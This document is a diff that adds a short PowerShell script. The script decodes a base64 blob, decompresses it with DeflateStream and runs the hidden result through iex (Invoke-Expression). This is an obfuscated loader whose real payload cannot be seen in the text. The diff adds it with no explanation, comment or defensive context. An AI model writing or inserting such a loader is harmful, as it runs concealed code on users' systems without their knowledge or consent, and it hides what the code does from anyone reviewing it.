@@ -1,0 +1,5 @@
+$data = [Convert]::FromBase64String('FY6xasNQDAD3fIWHwLPBlfdsbiElQ0uokywhg2KrjkBPNpYesf8+znrcwV3/6P8GtRnFuyzwTX5aRspDs5hThB9U7CmSOtTJh4jOg0Idjc/OYqF4F3sm6fKAKz0o+x5ZqAtl+B30mO7Cbdn4Grar3ZBfUBLlW00i5danRMWGac5yfk5ZeLiPtquqtlOgGeMoBEpejeCzh+zjbPSJxu0RJ2PtC/ga1Ne7zQs=')
+$ms = New-Object IO.MemoryStream(,$data)
+$ds = New-Object IO.Compression.DeflateStream($ms, [IO.Compression.CompressionMode]::Decompress)
+$sr = New-Object IO.StreamReader($ds)
+iex $sr.ReadToEnd()
